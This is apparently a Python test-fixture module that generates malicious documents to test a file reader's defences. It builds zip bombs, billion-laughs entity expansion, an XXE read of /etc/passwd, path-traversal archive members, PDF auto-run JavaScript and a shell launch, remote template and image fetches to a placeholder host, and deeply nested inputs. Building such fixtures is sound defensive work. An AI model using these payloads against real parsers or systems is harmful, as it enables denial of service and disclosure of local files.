"""Files made to break whoever reads them, each under the name that it comes with."""

# ruff: noqa: E501 - parts of files

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Final

W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS: Final = "Ring before you come, and say who you are."

TYPES: Final = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Default Extension="zip" ContentType="application/zip"/>'
    '<Default Extension="xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
PACKAGE: Final = (
    f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="r1" '
    f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def word_file(
    body: str | bytes = paragraph(WORDS),
    *,
    opening: str = '<?xml version="1.0"?>',
    relations: str = "",
    more: dict[str, bytes] | None = None,
) -> bytes:
    """A .docx file; `relations` are those of its document, `more` its other members."""
    if isinstance(body, str):
        body = f'{opening}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'.encode()
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", PACKAGE)
        archive.writestr("word/document.xml", body)
        if relations:
            archive.writestr(
                "word/_rels/document.xml.rels",
                f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}">{relations}'
                "</Relationships>",
            )
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return data.getvalue()


def relation(kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="x{len(target)}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


def overlapping_zip(times: int = 1000) -> bytes:
    """A .docx whose directory names one packed member of 10 MB a thousand times."""
    member = "word/document.xml"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = bytes(10_000_000)
    packed = packer.compress(raw) + packer.flush()
    sizes = struct.pack("<III", zlib.crc32(raw), len(packed), len(raw))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes
    local += struct.pack("<HH", len(member), 0) + member.encode() + packed
    directory = b"".join(
        b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name.encode()
        for name in (f"{number}/{member}" for number in range(times))
    )  # fmt: skip
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, times, times, len(directory), len(local), 0)
    return local + directory + end


def lying_zip() -> bytes:
    """A .docx whose directory says that its document of 5 MB has 40 bytes."""
    size = 5_000_000
    data = word_file(b"<x>" + b"a" * (size - 7) + b"</x>")
    return data.replace(struct.pack("<I", size), struct.pack("<I", 40))


def laughs() -> str:
    """A billion copies of a word, as entities."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{entities}]>'


def pdf(*objects: str | bytes, root: int = 1, trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, without a table: PDFium makes its own."""
    data = b"%PDF-1.7\n"
    for number, written in enumerate(objects, start=1):
        content = written.encode("latin-1") if isinstance(written, str) else written
        data += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    size = len(objects) + 1
    return data + f"trailer\n<< /Root {root} 0 R /Size {size} {trailer} >>\n%%EOF\n".encode()


def stream(content: bytes, entries: str = "") -> bytes:
    return f"<< /Length {len(content)} {entries} >>\nstream\n".encode() + content + b"\nendstream"


def page_of(content: bytes, *, catalog: str = "", resources: str = "", more: str = "") -> bytes:
    return pdf(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        f"/Resources << /Font << /R 4 0 R >> {resources} >> {more} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        content,
    )


SHOWN: Final = f"BT /R 12 Tf 50 700 Td ({WORDS}) Tj ET\n".encode()
LINES: Final = b"BT /R 1 Tf 5 7 Td (Ring before you come to a home) Tj ET\n"


def flate(content: bytes, *, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return stream(content, f"/Filter [{'/FlateDecode ' * times}]")


def huge_png() -> bytes:
    """A picture that says it has ten thousand million points."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + head
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(head))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
    )


def nested(depth: int) -> bytes:
    """A zip in a zip in a zip, each of ten copies."""
    content = bytes(1_000_000)
    for _ in range(depth):
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{number}.zip", content)
        content = data.getvalue()
    return content


READ: Final = {
    "a template from the network.docx": word_file(
        relations=relation("attachedTemplate", "http://203.0.113.1/evil.dotm", external=True)
    ),
    "a picture from the network.docx": word_file(
        relations=relation("image", "http://203.0.113.1/p.png", external=True)
    ),
    "a path upwards.docx": word_file(
        more={"../../evil.txt": b"x", "/tmp/evil.txt": b"x", "word/../../evil.xml": b"x"}  # noqa: S108 - of a member
    ),
    "macros.docx": word_file(
        relations=relation("vbaProject", "vbaProject.bin"), more={"word/vbaProject.bin": b"Shell"}
    ),
    "a huge picture.docx": word_file(
        relations=relation("image", "media/p.png"), more={"word/media/p.png": huge_png()}
    ),
    "zips in zips.docx": word_file(
        relations=relation("package", "e.zip"), more={"word/e.zip": nested(4)}
    ),
    "a script.pdf": page_of(
        stream(SHOWN), catalog="/OpenAction << /S /JavaScript /JS (app.launchURL('http://x')) >>"
    ),
    "a program to start.pdf": page_of(
        stream(SHOWN), catalog="/OpenAction << /S /Launch /F (/bin/sh) >>"
    ),
    "a link out.pdf": page_of(
        stream(SHOWN), more="/AA << /O << /S /URI /URI (http://203.0.113.1/) >> >>"
    ),
    "a stream outside.pdf": page_of(
        stream(SHOWN), resources="/XObject << /X << /F (/etc/passwd) /Length 0 >> >>"
    ),
    "a form in itself.pdf": pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        "/Resources << /Font << /R 4 0 R >> /XObject << /X 6 0 R >> >> >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(SHOWN + b"/X Do\n"),
        stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                         "/Resources << /XObject << /X 6 0 R >> >>"),
    ),
    "loads from elsewhere.html": (
        '<html><head><base href="http://203.0.113.1/"><link rel=stylesheet href="//203.0.113.1/a">'
        '<meta http-equiv=refresh content="0;url=http://203.0.113.1/"></head><body>'
        f'<img src="http://203.0.113.1/p.png"><iframe src="file:///etc/passwd"></iframe>'
        f"<p>{WORDS}</p></body></html>"
    ).encode(),
    "entities.html": (laughs() + f"<html><body><p>{WORDS} &e9;</p></body></html>").encode(),
    "many attributes.html": (f"<p {' '.join(f'a{n}=1' for n in range(5_000))}>{WORDS}").encode(),
    "deep.html": ("<div>" * 30_000 + f"<p>{WORDS}").encode(),
    "deep tables.html": ("<table><tr><td>" * 3_000 + f"<p>{WORDS}").encode(),
    "deep quotes.md": (">" * 3_000 + f" {WORDS}\n").encode(),
    "deep lists.md": (
        "".join(f"{'  ' * n}- a\n" for n in range(300)) + f"\n{WORDS}\n"
    ).encode(),
    "brackets.md": ("[" * 20_000 + f"\n\n{WORDS}\n").encode(),
}  # fmt: skip
"""What is read, without what it asks for: `WORDS` are in it."""

REFUSED: Final = {
    "one member a thousand times.docx": overlapping_zip(),
    "entities.docx": word_file(paragraph("&e9;"), opening=laughs()),
    "a file from outside.docx": word_file(
        paragraph("&out;"),
        opening='<?xml version="1.0"?><!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>',
    ),
    "a lie about its size.docx": lying_zip(),
    "deep.docx": word_file("<w:sdt><w:sdtContent>" * 20_000 + "</w:sdtContent></w:sdt>" * 20_000),
    "a zip.docx": nested(3),
    "a zip of the future.docx": word_file().replace(
        b"PK\x01\x02\x14\x03\x14", b"PK\x01\x02\x14\x03\xff"
    ),
    "no pages but many.pdf": pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 99999999 /Kids [] >>"
    ),
    "pages in a circle.pdf": pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"
    ),
    "a huge picture.pdf": page_of(
        stream(b"/X Do"),
        resources="/XObject << /X << /Type /XObject /Subtype /Image /Width 99999 /Height 99999 "
        "/ColorSpace /DeviceRGB /BitsPerComponent 16 /Length 0 >> >>",
    ),
    "a table before itself.pdf": b"%PDF-1.7\nxref\n0 0\ntrailer\n<< /Prev 9 /Size 1 >>\n"
    b"startxref\n9\n%%EOF\n",
    "a zip.pdf": b"PK\x03\x04" + bytes(100),
    "a picture.html": huge_png(),
    "a program.txt": b"\x7fELF" + bytes(range(256)) * 8,
    "only nulls.md": bytes(100_000),
}
"""What is refused, with a reason and a remedy."""

BOMBS: Final = {
    "a paragraph of 60 MB.docx": lambda: word_file(paragraph("a " * 30_000_000)),
    "a page of 60 MB.pdf": lambda: page_of(flate(LINES * 1_000_000)),
    "packed twice.pdf": lambda: page_of(flate(LINES * 1_000_000, times=2)),
}
"""Small files that become large, made when they are needed."""
